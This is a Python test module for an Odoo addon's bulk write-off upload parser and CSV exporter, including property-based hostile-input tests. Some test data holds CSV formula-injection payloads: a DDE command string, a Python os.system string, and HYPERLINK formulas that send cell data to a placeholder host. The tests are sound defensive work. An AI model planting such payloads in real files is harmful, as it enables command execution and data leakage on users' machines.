import codecs
import csv
import io
import re

from hypothesis import example, given, strategies as st

from odoo.tests import BaseCase, tagged
from odoo.tools.misc import file_open

from odoo.addons.recon_addon.services.upload import (
    MAX_REF_LENGTH,
    MAX_ROWS,
    neutralise_cell,
    parse_upload,
    to_csv,
)

from .upload_strategies import (
    ACCOUNT_HEADERS,
    ACCOUNT_REFS,
    ENCODINGS,
    FILENAMES,
    FORMULA_PREFIXES,
    FORMULA_REFS,
    account_files,
    distinct,
    encode,
    hostile_files,
    hostile_settings,
)

#: characters no account ID may hold: C0/C1 controls and DEL
CONTROL = re.compile(r"[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f]")


def check_well_formed(test, filename, rows, errors):
    """What every answer of :func:`parse_upload` must be, whatever the file:
    one fatal error naming the file and no row, or distinct, trimmed,
    plausible references with their lines, and notes that name their line."""
    messages = [str(error.message) for error in errors]  # every message renders
    fatal = [error for error in errors if error.fatal]
    if fatal:
        test.assertEqual((rows, len(errors)), ([], 1), messages)
        test.assertIn(filename.strip(), messages[0])
        return
    test.assertTrue(rows, f"no account read and no fatal error: {messages}")
    test.assertLessEqual(len(rows), MAX_ROWS)
    refs = [row.ref for row in rows]
    test.assertEqual(len(refs), len(set(refs)), "each account once")
    for row in rows:
        test.assertEqual(row.ref, row.ref.strip())
        test.assertTrue(0 < len(row.ref) <= MAX_REF_LENGTH, row.ref)
        test.assertFalse(CONTROL.search(row.ref), row.ref)
        test.assertGreaterEqual(row.line, 1)
        test.assertGreaterEqual(row.occurrences, 1)
    lines = [row.line for row in rows]
    test.assertEqual(lines, sorted(lines), "rows in file order")
    for error, message in zip(errors, messages, strict=False):
        test.assertTrue(error.line and message, "a note names its line")


@tagged("post_install", "-at_install")
class TestParseUpload(BaseCase):
    """Reading bulk write-off files: no database, milliseconds per test."""

    def _refs(self, data, filename="accounts.csv"):
        rows, errors = parse_upload(data, filename)
        self.assertFalse([e for e in errors if e.fatal], [str(e.message) for e in errors])
        return [row.ref for row in rows]

    def _fatal(self, data, filename="accounts.csv", **kwargs):
        rows, errors = parse_upload(data, filename, **kwargs)
        self.assertEqual(rows, [])
        self.assertEqual(len(errors), 1)
        self.assertTrue(errors[0].fatal)
        return errors[0].code, str(errors[0].message)

    def test_one_account_per_line_ignores_blank_lines_and_spaces(self):
        data = b"INV/2024/00001\r\n\r\n   INV/2024/00002  \n\t\nINV/2024/00003"
        self.assertEqual(self._refs(data, "ids.txt"),
                         ["INV/2024/00001", "INV/2024/00002", "INV/2024/00003"])

    def test_row_keeps_the_line_it_came_from(self):
        rows, _errors = parse_upload(b"\nA1\n\nA2\n", "ids.txt")
        self.assertEqual([(r.ref, r.line) for r in rows], [("A1", 2), ("A2", 4)])

    def test_header_column_named_account_id_semicolon(self):
        data = b"Customer;Account ID;Amount\nHarbour Foods;INV/1;10,50\nMill;INV/2;3\n"
        self.assertEqual(self._refs(data), ["INV/1", "INV/2"])

    def test_header_column_named_invoice_number_comma_quoted(self):
        data = b'"Amount","Invoice Number"\n"1,200.00","INV/7"\n"5","INV/8"\n'
        self.assertEqual(self._refs(data), ["INV/7", "INV/8"])

    def test_header_names_are_matched_loosely(self):
        for header in (b"account", b"ACCOUNT_ID", b" Invoice ", b"Number", b"invoice no."):
            with self.subTest(header=header):
                self.assertEqual(self._refs(header + b",Note\nINV/9,x\n"), ["INV/9"])

    def test_account_column_preferred_over_number(self):
        self.assertEqual(self._refs(b"Number;Account\n1;INV/3\n"), ["INV/3"])

    def test_single_column_header_is_not_an_account(self):
        self.assertEqual(self._refs(b"Account\nINV/1\n"), ["INV/1"])

    def test_trailing_separator_on_a_one_column_file(self):
        self.assertEqual(self._refs(b"INV/1;\nINV/2;\n"), ["INV/1", "INV/2"])

    def test_utf8_with_bom(self):
        data = codecs.BOM_UTF8 + "Account;Client\nFAC/Ü1;Müller\n".encode()
        self.assertEqual(self._refs(data), ["FAC/Ü1"])

    def test_utf8_without_bom(self):
        self.assertEqual(self._refs("FAC/É1\nFAC/Ø2\n".encode(), "ids.txt"), ["FAC/É1", "FAC/Ø2"])

    def test_latin1(self):
        self.assertEqual(self._refs("Account;Client\nFAC/É1;Crème\n".encode("latin-1")), ["FAC/É1"])

    def test_utf16_with_bom(self):
        self.assertEqual(self._refs("Account\tName\nINV/5\tA\n".encode("utf-16")), ["INV/5"])

    def test_duplicates_listed_once_and_reported(self):
        rows, errors = parse_upload(b"INV/1\nINV/2\nINV/1\n INV/1\n", "ids.txt")
        self.assertEqual([(r.ref, r.line, r.occurrences) for r in rows], [("INV/1", 1, 3), ("INV/2", 2, 1)])
        self.assertEqual([(e.code, e.ref, e.fatal) for e in errors], [("duplicate", "INV/1", False)])
        self.assertIn("listed 3 times (lines 1, 3, 4)", str(errors[0].message))

    def test_too_long_reference_is_skipped_and_reported(self):
        rows, errors = parse_upload(b"INV/1\n" + b"X" * 65 + b"\n", "ids.txt")
        self.assertEqual([r.ref for r in rows], ["INV/1"])
        self.assertEqual([(e.code, e.line) for e in errors], [("too_long", 2)])

    def test_limit_accepts_exactly_the_limit(self):
        data = "\n".join(f"INV/{i:05d}" for i in range(MAX_ROWS)).encode()
        rows, errors = parse_upload(data, "ids.txt")
        self.assertEqual((len(rows), errors), (MAX_ROWS, []))

    def test_limit_refuses_one_more_with_count_and_limit(self):
        data = ("Account\n" + "\n".join(f"INV/{i:05d}" for i in range(MAX_ROWS + 1))).encode()
        code, message = self._fatal(data)
        self.assertEqual(code, "too_many")
        self.assertIn("lists 2001 accounts", message)
        self.assertIn("at most 2000", message)

    def test_empty_file(self):
        self.assertEqual(self._fatal(b"")[0], "empty")

    def test_only_blank_lines(self):
        self.assertEqual(self._fatal(b"\n  \r\n\t\n")[0], "empty")

    def test_header_without_data(self):
        self.assertEqual(self._fatal(b"Account;Customer\n")[0], "empty")

    def test_binary_file_is_not_text(self):
        code, message = self._fatal(b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)), "accounts.csv")
        self.assertEqual(code, "not_text")
        self.assertIn("accounts.csv is not a text file", message)

    def test_control_characters_without_nul_are_not_text(self):
        self.assertEqual(self._fatal(b"%PDF-1.4\n\x01\x02\x03\x1b")[0], "not_text")

    def test_wrong_extension(self):
        code, message = self._fatal(b"INV/1", "accounts.xlsx")
        self.assertEqual(code, "extension")
        self.assertIn("accounts.xlsx is not a .csv or .txt file", message)

    def test_file_too_big(self):
        code, message = self._fatal(b"INV/1\n" * 400, max_bytes=1024)
        self.assertEqual(code, "too_big")
        self.assertIn("is 3 KB; the limit is 1 KB", message)

    def test_several_columns_without_account_header(self):
        code, message = self._fatal(b"Customer;Amount\nHarbour;10\n")
        self.assertEqual(code, "no_column")
        self.assertIn("found: Customer, Amount", message)

    def test_cells_are_never_evaluated(self):
        self.assertEqual(self._refs(b"__import__('os').system('true')\n=1+1\n", "ids.txt"),
                         ["__import__('os').system('true')", "=1+1"])


    def test_shipped_sample_file_reads_as_documented(self):
        with file_open("recon_addon/examples/recon_bulk_write_off_sample.csv", "rb") as sample:
            rows, errors = parse_upload(sample.read(), "recon_bulk_write_off_sample.csv")
        self.assertEqual([row.ref for row in rows], [f"LEG/0000{i}" for i in range(1, 8)] + ["LEG/09999"])
        self.assertEqual([(error.code, error.ref) for error in errors], [("duplicate", "LEG/00002")])

@tagged("post_install", "-at_install")
class TestParseHostileUpload(BaseCase):
    """Property-based: whatever the file, a clear error or the right rows,
    never a traceback. Examples are generated from a fixed seed."""

    def _parse(self, data, filename):
        rows, errors = parse_upload(data, filename)
        check_well_formed(self, filename, rows, errors)
        return rows, errors

    @hostile_settings(100)
    @given(data=st.binary(max_size=4096), filename=FILENAMES)
    @example(data=b"PK\x03\x04\x14\x00\x06\x00" + bytes(range(256)), filename="accounts.csv")
    @example(data=codecs.BOM_UTF16_LE + b"A", filename="accounts.csv")
    @example(data=b"\xff\xfe\x00\xd8A\x00", filename="accounts.csv")  # lone surrogate
    def test_any_bytes_give_rows_or_one_clear_error(self, data, filename):
        self._parse(data, filename)

    @hostile_settings(100)
    @given(text=st.text(max_size=600), encoding=st.sampled_from(ENCODINGS), filename=FILENAMES)
    @example(text="INV/1\x85INV/2\u2028INV/3\x0cINV/4", encoding="utf-8", filename="ids.txt")
    def test_any_text_in_any_encoding_gives_rows_or_one_clear_error(self, text, encoding, filename):
        data = encode(text, encoding)
        self._parse(data if data is not None else text.encode("utf-8"), filename)

    @hostile_settings(80)
    @given(upload=hostile_files())
    def test_hostile_files_give_rows_or_one_clear_error(self, upload):
        self._parse(*upload)

    @hostile_settings(100)
    @given(upload=account_files())
    @example(upload=(b"Account ID;Customer;Note\nINV/1;Harbour Foods, Ltd;no contact, since, spring\n",
                     "accounts.csv", [("INV/1", 2)]))
    @example(upload=("INV/1\nINV/2".encode("utf-16-le"), "ids.txt", [("INV/1", 1), ("INV/2", 2)]))
    @example(upload=("INV/1\nINV/2".encode("utf-16-be"), "ids.txt", [("INV/1", 1), ("INV/2", 2)]))
    @example(upload=("Account\nINV/€1".encode("cp1252"), "ids.txt", [("INV/€1", 2)]))
    def test_accounts_come_back_whatever_the_encoding_separator_and_line_ending(self, upload):
        """UTF-8 with or without BOM, UTF-16 with or without BOM, Latin-1,
        Windows-1252; one per line or a CSV whose other columns hold any
        text (separators, quotes); LF, CRLF or CR: the same accounts on the
        same lines."""
        data, filename, listed = upload
        rows, errors = self._parse(data, filename)
        self.assertEqual([(row.ref, row.line) for row in rows], distinct(listed))
        self.assertEqual({error.code for error in errors}, {"duplicate"} if len(rows) < len(listed) else set())

    @hostile_settings(80)
    @given(upload=account_files(refs=FORMULA_REFS, one_per_line=False))
    @example(upload=(b'Account,Note\n"=HYPERLINK(""http://x/?""&A1,""Open"")",x\n', "accounts.csv",
                     [('=HYPERLINK("http://x/?"&A1,"Open")', 2)]))
    def test_formula_cells_are_read_as_plain_references(self, upload):
        """A cell starting with =, +, - or @ is a plain string, never
        evaluated nor changed: looked up as an account ID, it matches no
        invoice (Odoo numbers never start so)."""
        data, filename, listed = upload
        rows, _errors = self._parse(data, filename)
        self.assertEqual([(row.ref, row.line) for row in rows], distinct(listed))
        self.assertTrue(all(row.ref[0] in FORMULA_PREFIXES for row in rows))

    @hostile_settings(60)
    @given(refs=st.lists(ACCOUNT_REFS, min_size=1, max_size=20), data=st.data())
    def test_nul_bytes_are_refused_naming_their_line(self, refs, data):
        line = data.draw(st.integers(1, len(refs)), label="line")
        text = refs[line - 1]
        column = data.draw(st.integers(0, len(text)), label="column")
        refs = refs[:line - 1] + [text[:column] + "\x00" + text[column:]] + refs[line:]
        filename = data.draw(FILENAMES, label="filename")
        rows, errors = self._parse("\n".join(refs).encode(), filename)
        self.assertEqual(errors[0].code, "not_text")
        self.assertEqual(errors[0].line, line)
        self.assertIn(f"line {line} holds a control character", str(errors[0].message))

    @hostile_settings(50)
    @given(refs=st.lists(ACCOUNT_REFS, max_size=5, unique=True), data=st.data())
    def test_a_100_kb_line_is_skipped_naming_its_line(self, refs, data):
        position = data.draw(st.integers(0, len(refs)), label="position")
        long_line = data.draw(st.sampled_from("X9é"), label="char") * data.draw(
            st.integers(100_000, 110_000), label="length")
        lines = refs[:position] + [long_line] + refs[position:]
        rows, errors = self._parse("\n".join(lines).encode(), "ids.txt")
        if refs:
            self.assertEqual([row.ref for row in rows], refs)
            self.assertEqual([(error.code, error.line) for error in errors], [("too_long", position + 1)])
            self.assertIn(f"Line {position + 1}: \"{long_line[:20]}…\" is too long", str(errors[0].message))
        else:
            self.assertEqual((errors[0].code, errors[0].line), ("too_long", 1))
            self.assertIn("ids.txt lists no account that can be looked up. Line 1", str(errors[0].message))

    def test_a_cell_longer_than_csv_allows_is_reported_not_dropped(self):
        # Python's default limit; Odoo's server raises it to 500 MB at start
        limit = csv.field_size_limit(131_072)
        self.addCleanup(csv.field_size_limit, limit)
        data = b"Note;Account\n" + b"x" * 200_000 + b";INV/1\nok;INV/2\n"
        rows, errors = self._parse(data, "accounts.csv")
        self.assertEqual([row.ref for row in rows], ["INV/2"])
        self.assertEqual([(error.code, error.line) for error in errors], [("unreadable", 2)])

    @hostile_settings(40)
    @given(limit=st.integers(1, 40), extra=st.integers(-2, 2), header=st.booleans(),
           encoding=st.sampled_from(ENCODINGS))
    @example(limit=MAX_ROWS, extra=1, header=False, encoding="utf-8")
    @example(limit=MAX_ROWS, extra=1, header=True, encoding="utf-16")
    @example(limit=MAX_ROWS, extra=0, header=True, encoding="utf-16-le")
    def test_one_account_more_than_the_limit_is_refused_with_count_and_limit(self, limit, extra, header, encoding):
        count = max(1, limit + extra)
        note = ";n" * header
        text = "Account;Note\n" * header + "\n".join(f"INV/{index:05d}{note}" for index in range(count))
        rows, errors = parse_upload(text.encode(encoding), "accounts.csv", max_rows=limit)
        if count <= limit:
            self.assertEqual((len(rows), errors), (count, []))
        else:
            self.assertEqual((rows, [error.code for error in errors]), ([], ["too_many"]))
            self.assertIn(f"accounts.csv lists {count} accounts; one file may list at most {limit}",
                          str(errors[0].message))

    @hostile_settings(40)
    @given(blank=st.sampled_from(["", "\n", " \r\n\t\n", "\r\r", "\ufeff"]),
           header=st.one_of(st.just(""), ACCOUNT_HEADERS, ACCOUNT_HEADERS.map(lambda h: f"Customer;{h};Note")),
           encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1"]), filename=FILENAMES)
    def test_empty_and_header_only_files_are_refused_as_empty(self, blank, header, encoding, filename):
        data = encode(blank + header + blank, encoding) or b""
        rows, errors = self._parse(data, filename)
        self.assertEqual([error.code for error in errors], ["empty"])
        self.assertIn(f"{filename} lists no account", str(errors[0].message))


@tagged("post_install", "-at_install")
class TestCsvExport(BaseCase):

    def test_formula_cells_are_neutralised(self):
        for value in ("=SUM(A1)", "+1", "-1+2", "@cmd", "\tx"):
            with self.subTest(value=value):
                self.assertEqual(neutralise_cell(value), "'" + value)

    def test_plain_text_and_numbers_are_kept(self):
        self.assertEqual(neutralise_cell("INV/2024/1"), "INV/2024/1")
        self.assertEqual(neutralise_cell(-5.5), -5.5)

    def test_to_csv_round_trip(self):
        data = to_csv(["Account ID", "Reason"], [["=cmd|' /C calc'!A0", "nothing; left, open"], ["INV/1", None]])
        self.assertTrue(data.startswith(codecs.BOM_UTF8))
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        self.assertEqual(rows, [["Account ID", "Reason"],
                                ["'=cmd|' /C calc'!A0", "nothing; left, open"],
                                ["INV/1", ""]])

    @hostile_settings(100)
    @given(rows=st.lists(st.lists(st.one_of(st.text(max_size=30), st.none(), st.floats(allow_nan=False)),
                                  min_size=1, max_size=4), max_size=5))
    @example(rows=[["=HYPERLINK(\"http://x\")", "+1", "-1", "@SUM(A1)", "\tcmd", "\r=1"]])
    def test_no_exported_cell_starts_like_a_formula(self, rows):
        data = to_csv(["Account ID"], rows)
        read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        self.assertEqual(len(read), len(rows) + 1)
        for written, cells in zip(rows, read[1:], strict=False):
            for value, cell in zip(written, cells, strict=False):
                if isinstance(value, str):  # numbers stay numbers, -1.5 included
                    self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell)
                    self.assertIn(cell, (value, "'" + value))

